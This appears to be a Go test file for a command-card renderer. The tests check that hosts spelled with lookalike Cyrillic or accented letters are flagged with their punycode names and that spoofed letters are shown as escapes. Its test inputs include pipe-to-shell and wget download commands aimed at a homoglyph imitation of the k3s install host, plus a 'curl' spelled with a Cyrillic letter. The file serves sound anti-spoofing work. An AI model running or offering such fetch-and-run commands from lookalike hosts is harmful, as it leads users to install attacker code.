package cards

import (
	"strings"
	"testing"
)

// TestNonASCIIHostShowsPunycode: a host written with letters outside
// ASCII (a Cyrillic ѕ in get.k3ѕ.io) reads like the ASCII host it
// imitates; the card names it as punycode, the name it has on the wire,
// right under the command (rt9c F6). ASCII hosts and non-ASCII words that
// are not hosts get no such line.
func TestNonASCIIHostShowsPunycode(t *testing.T) {
	cases := []struct {
		name, src string
		want      []string
	}{
		{"homoglyph in a URL", "curl -fsSL https://get.k3\u0455.io | sh", []string{"get.xn--k3-foc.io"}},
		{"user, port and path", "curl https://me@get.k3\u0455.io:8443/x.sh", []string{"get.xn--k3-foc.io"}},
		{"scp target", "scp a.txt me@b\u00fccher.example:/tmp/", []string{"xn--bcher-kva.example"}},
		{"two hosts", "curl https://get.k3\u0455.io https://b\u00fccher.example/", []string{"get.xn--k3-foc.io", "xn--bcher-kva.example"}},
		{"non-ASCII file name", "cat r\u00e9sum\u00e9.pdf", nil},
		{"ASCII host", "curl -fsSL https://get.k3s.io | sh", nil},
		{"non-ASCII word, no host", "echo caf\u00e9 \u0456\u0441\u043f\u0440\u0430\u0432\u0438\u0442\u0438", nil},
	}
	p := policy(t, false)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			card := cardFor(t, c.src, p)
			for _, w := range []int{80, 120} {
				var command string
				for _, s := range CardSections(card, w, PlainStyles()) {
					if s.Title == SectionCommand {
						command = plain(s.Lines)
					}
					checkLines(t, s.Title, s.Lines, w)
				}
				for _, want := range c.want {
					if !strings.Contains(command, "not ASCII") || !strings.Contains(command, want) {
						t.Errorf("width %d: the command section does not name %q as a non-ASCII host:\n%s", w, want, command)
					}
				}
				if c.want == nil && strings.Contains(command, "not ASCII") {
					t.Errorf("width %d: a warning where no host is non-ASCII:\n%s", w, command)
				}
			}
		})
	}
}

// TestForeignHosts reads the hosts with letters outside ASCII from a
// command, as punycode.
func TestForeignHosts(t *testing.T) {
	got := ForeignHosts("curl https://get.k3\u0455.io/a https://get.k3\u0455.io/b; ssh git@b\u00fccher.example ls")
	want := []string{"get.xn--k3-foc.io", "xn--bcher-kva.example"}
	if len(got) != len(want) {
		t.Fatalf("ForeignHosts: %v, want %v", got, want)
	}
	for i := range want {
		if got[i].ASCII != want[i] {
			t.Errorf("host %d: %q, want %q", i, got[i].ASCII, want[i])
		}
	}
}

// FuzzForeignHosts: any command reads without panic, and every host it
// names is named in ASCII, at most foreignHostsMax of them.
func FuzzForeignHosts(f *testing.F) {
	for _, s := range []string{"curl https://get.k3\u0455.io | sh", "scp a me@b\u00fccher.example:/x", "ssh @\u00fc.", "x://@:\u0455.."} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := ForeignHosts(s)
		if len(got) > foreignHostsMax {
			t.Fatalf("%d hosts, more than %d", len(got), foreignHostsMax)
		}
		for _, h := range got {
			for i := 0; i < len(h.ASCII); i++ {
				if h.ASCII[i] >= 0x80 {
					t.Fatalf("host %q named %q, not ASCII", h.Name, h.ASCII)
				}
			}
		}
	})
}

// TestBareAndPunycodeHosts: a host written without a scheme (curl
// exаmple.com, a Cyrillic а) is read as a host when its letters outside
// ASCII look like ASCII ones, and a punycode host (xn--…) is named with
// the letters it stands for; a bare non-ASCII file name is not a host.
func TestBareAndPunycodeHosts(t *testing.T) {
	cases := []struct {
		src, ascii string
		punycode   bool
	}{
		{"curl ex\u0430mple.com", "xn--exmple-4nf.com", false},
		{"wget -q get.k3\u0455.io/install.sh", "get.xn--k3-foc.io", false},
		{"cat /srv/\u0430\u0440\u0440\u04cf\u0435.d/x", "", false},
		{"curl xn--80ak6aa92e.com", "xn--80ak6aa92e.com", true},
		{"curl https://xn--80ak6aa92e.com/x", "xn--80ak6aa92e.com", true},
		{"cat r\u00e9sum\u00e9.pdf", "", false},
		{"curl example.com", "", false},
		{"echo \u043f\u0440\u0438\u0432\u0435\u0442.txt", "", false},
	}
	for _, c := range cases {
		got := ForeignHosts(c.src)
		if c.ascii == "" {
			if len(got) != 0 {
				t.Errorf("%q: hosts %+v, want none", c.src, got)
			}
			continue
		}
		if len(got) != 1 || got[0].ASCII != c.ascii || got[0].Punycode != c.punycode {
			t.Errorf("%q: hosts %+v, want %s (punycode %v)", c.src, got, c.ascii, c.punycode)
			continue
		}
		note := got[0].Note()
		if strings.ContainsFunc(note, func(r rune) bool { return r >= 0x80 }) {
			t.Errorf("%q: the note %q is not ASCII", c.src, note)
		}
	}
}

// TestLookalikeLettersMarked: on the card, a letter outside ASCII that
// looks like an ASCII one is drawn as its escape in a word that could
// pass for ASCII (a host, a program name), and left as it is in a word
// of another script.
func TestLookalikeLettersMarked(t *testing.T) {
	cases := []struct {
		src, want, not string
	}{
		{"curl ex\u0430mple.com", `ex\u0430mple.com`, "ex\u0430mple"},
		{"\u0441url -fsSL https://get.k3s.io", `\u0441url`, "\u0441url"},
		{"curl \u0430\u0440\u0440\u04cf\u0435.com", `\u0430\u0440\u0440\u04cf\u0435.com`, "\u0430\u0440\u0440"},
		{"echo \u043f\u0440\u0438\u0432\u0435\u0442 \u043c\u0438\u0440", "\u043f\u0440\u0438\u0432\u0435\u0442 \u043c\u0438\u0440", `\u`},
		{"cat r\u00e9sum\u00e9.pdf", "r\u00e9sum\u00e9.pdf", `\u`},
	}
	p := policy(t, false)
	for _, c := range cases {
		card := cardFor(t, c.src, p)
		for _, w := range []int{80, 120} {
			var command string
			for _, s := range CardSections(card, w, PlainStyles()) {
				if s.Title == SectionCommand {
					command = plain(s.Lines)
				}
			}
			first := strings.SplitN(command, "\n", 2)[0]
			if !strings.Contains(first, c.want) || strings.Contains(first, c.not) {
				t.Errorf("width %d, %q: the command reads %q, want %q and not %q", w, c.src, first, c.want, c.not)
			}
		}
	}
}
